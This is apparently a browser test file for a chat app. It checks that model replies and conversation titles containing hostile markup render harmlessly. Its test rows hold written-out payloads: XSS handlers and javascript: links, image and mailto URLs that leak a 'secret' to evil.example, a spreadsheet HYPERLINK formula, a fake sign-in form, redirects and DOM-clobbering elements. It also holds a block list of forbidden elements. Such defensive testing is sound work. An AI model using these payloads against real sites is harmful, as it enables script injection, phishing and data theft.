/** Groups D and F of the list of attacks, rendered: what a model, a record or a director may write is text, whatever it is made to look like. */
import type { Browser, Page, WebSocketRoute } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { askProduct, openApp } from '../support/app-page.ts';
import { browserMissing, startBrowser } from '../support/browser.ts';
import { type LocalProduct, startLocalProduct } from '../support/local-product.ts';

/** Number and name of the row, what is written, and words of it that are to be read on the page. */
const rows: readonly (readonly [string, string, string])[] = [
  ['61 lone surrogates', 'before \ud800 and \udc00 after', 'after'],
  ['62 an override of direction in a name and in a link', 'Asha \u202egnp.exe and [safe\u202egro.elpmaxe](https://evil.example/out) end', 'end'],
  ['63 letters that look alike, and letters of no width', 'p\u0430ypal \u200b\u200d\u2060 caf\u00e9 cafe\u0301 end', 'end'],
  ['64 ten thousand marks on one letter', `a${'\u0301'.repeat(10_000)} end`, 'end'],
  ['65 ten thousand joined emoji', `${'👩‍👩‍👧‍👦'.repeat(10_000)} end`, 'end'],
  ['66 NUL and escapes', 'before \u0000\u001b[31mred\u001b[0m\u0007 after', 'after'],
  ['67 a line that plays a log', 'one\n{"level":"error","message":"forged"}\nend', 'forged'],
  ['68 scripts side by side', 'मराठी தமிழ் اردو বাংলা end', 'தமிழ்'],
  ['69 a word of a hundred thousand letters', `${'w'.repeat(100_000)} end`, 'end'],
  ['70 a formula', '| who | what |\n|---|---|\n| =HYPERLINK("https://evil.example/cell","x") | +1+1 |', 'HYPERLINK'],
  ['71 much of nothing', `start${' \n'.repeat(50_000)}end`, 'end'],
  ['79 elements with handlers', '<img src=x onerror="taken=1"> <svg onload="taken=1"><animate onbegin="taken=1"></svg> <body onload=taken=1> end', 'end'],
  [
    '80 schemes that run',
    '[a](javascript:taken=1) [b](JaVaScRiPt:taken=1) [c](java\tscript:taken=1) [d](&#106;avascript:taken=1) [e](data:text/html;base64,PHNjcmlwdD4=) [f](vbscript:x) [g](//evil.example/x) <javascript:taken=1> end',
    'end',
  ],
  ['81 a picture that tells', '![a](https://evil.example/?q=secret) ![b](//evil.example/b.png) end', 'end'],
  ['82 pictures and links by reference', '![a][1] [b][1] [c][2] end\n\n[1]: https://evil.example/reference.png\n[2]: javascript:taken=1', 'end'],
  ['83 markup in a fence that never ends', '```html\n<script>taken=1</script>\n<img src=x onerror=taken=1> end', 'taken=1'],
  [
    '84 styles, bases, refreshes and forms',
    '<style>@import url(https://evil.example/s.css); body{background:url(https://evil.example/b)}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name=q><button>Sign in</button></form> end',
    'end',
  ],
  [
    '85 diagrams, formulas, frames and addresses',
    '```mermaid\ngraph TD; A[<img src=x onerror=taken=1>]-->B\n```\n\n$$\\href{javascript:taken=1}{x}$$ <iframe src="https://evil.example/f"></iframe> https://evil.example/auto www.evil.example mailto:a@evil.example?body=secret [m](mailto:a@evil.example?body=secret) end',
    'end',
  ],
  ['86 names that stand for others', '<a id="config"></a><form id="app"><input name="attributes"></form><img name="cookie"> end', 'end'],
];

const forbidden = [
  'img',
  'iframe',
  'script',
  'style',
  'form',
  'input',
  'base',
  'meta',
  'object',
  'embed',
  'svg:not([aria-hidden="true"])',
  '#config',
  '#app',
  '[name="cookie"]',
  '[onerror]',
  '[onload]',
  '[style]',
];

describe.skipIf(browserMissing !== undefined)(`what is written, rendered${browserMissing === undefined ? '' : ` (skipped: ${browserMissing})`}`, () => {
  let product: LocalProduct;
  let browser: Browser;
  let page: Page;
  let conversation: string;

  beforeAll(async () => {
    [product, browser] = await Promise.all([startLocalProduct({ env: { CASTMATCH_SEED: '0' } }), startBrowser()]);
    conversation = await askProduct(product, 'Hello');
  });
  afterAll(async () => {
    await browser?.close();
    await product?.stop();
  });
  afterEach(async () => {
    await page?.context().close();
  });

  let foreign: string[];
  const watch = async (given: Page): Promise<void> => {
    foreign = [];
    given.on('request', (request) => !request.url().startsWith(product.url) && foreign.push(request.url()));
  };
  /** Nothing is fetched, runs, stands for something of ours, or makes the page wider; links lead only to what is announced. */
  const expectHarmless = async (): Promise<void> => {
    const found = (await page.evaluate(`(() => {
      const written = [...document.querySelectorAll('.prose, .bubble')];
      return {
        written: written.length,
        elements: ${JSON.stringify(forbidden)}.filter((selector) => written.some((element) => element.querySelector(selector) !== null)),
        protocols: [...new Set([...document.querySelectorAll('.thread a[href]')].map((link) => link.protocol))],
        taken: 'taken' in globalThis,
        clobbered: typeof globalThis.config !== 'undefined',
        isWide: document.documentElement.scrollWidth > innerWidth,
      };
    })()`)) as { written: number; elements: string[]; protocols: string[]; taken: boolean; clobbered: boolean; isWide: boolean };
    expect({ ...found, protocols: found.protocols.filter((protocol) => protocol !== 'https:' && protocol !== 'http:') }).toEqual({
      written: 2,
      elements: [],
      protocols: [],
      taken: false,
      clobbered: false,
      isWide: false,
    });
    expect(foreign).toEqual([]);
  };

  it.each(rows)('%s', async (_name, text, read) => {
    const app = await openApp(browser, product, `/c/${conversation}`, { size: 'phone' }, async (given) => {
      await watch(given);
      const title = text.slice(0, 200);
      await given.route('**/api/v1/conversations?*', async (route) => {
        const answer = await route.fetch();
        const body = (await answer.json()) as { items: object[] };
        await route.fulfill({ response: answer, json: { ...body, items: body.items.map((item) => ({ ...item, title })) } });
      });
      await given.route('**/messages?*', async (route) => {
        const answer = await route.fetch();
        const body = (await answer.json()) as { items: { parts: object[] }[] };
        await route.fulfill({ response: answer, json: { ...body, items: body.items.map((item) => ({ ...item, parts: [{ type: 'text', text }] })) } });
      });
    });
    ({ page } = app);
    await page.locator('.turn-reply .prose').waitFor();
    await expect.poll(() => page.locator('.turn-reply .prose').textContent(), { timeout: 30_000 }).toContain(read);

    await expectHarmless();
    expect(app.complaints.filter((complaint) => !/Refused to|Content Security Policy/u.test(complaint))).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(`/c/${conversation}`);
  });

  it('83 markup that is cut into pieces on its way', async () => {
    const turn = { conversationId: conversation, turnId: 'trn_01JB2Q8ZK7T3W5M9R4X6Y8A0BZ', attempt: 1 };
    const pieces = [
      'Look: <scr',
      'ipt>taken=1</scr',
      'ipt> <im',
      'g src=x onerror=tak',
      'en=1>\n\n```ht',
      'ml\n<scr',
      'ipt>taken=1</scri',
      'pt> [x](java',
      'script:taken=1) last',
    ];
    const answer = (socket: WebSocketRoute): void => {
      const send = (frame: object): void => socket.send(JSON.stringify(frame));
      socket.onMessage((data) => {
        const { action, requestId } = JSON.parse(String(data)) as { action: string; requestId?: string };
        if (action === 'hello') return send({ type: 'ready', serverTime: '', heartbeatSeconds: 240, authExpiresAt: '' });
        if (action === 'ping') return send({ type: 'pong' });
        if (action !== 'send') return send({ type: 'ok', requestId, data: {} });
        send({ type: 'accepted', requestId, ...turn, messageId: 'msg_x', position: 0, duplicate: false });
        const begin = [{ type: 'start', messageId: 'msg_x' }, { type: 'start-step' }, { type: 'text-start', id: 't' }];
        pieces.forEach((delta, at) => {
          send({ type: 'frame', ...turn, seq: at + 1, chunks: [...(at === 0 ? begin : []), { type: 'text-delta', id: 't', delta }] });
        });
      });
    };
    ({ page } = await openApp(browser, product, '/', {}, async (given) => {
      await watch(given);
      await given.routeWebSocket(/\/ws/u, answer);
    }));
    await page.locator('.connection.is-connected').waitFor();
    await page.locator('#composer').fill('Riders');
    await page.locator('#composer').press('Enter');
    await page.locator('.turn-reply pre').waitFor();
    await expect.poll(() => page.locator('.turn-reply .prose').textContent()).toContain('last');

    await expectHarmless();
  });
});
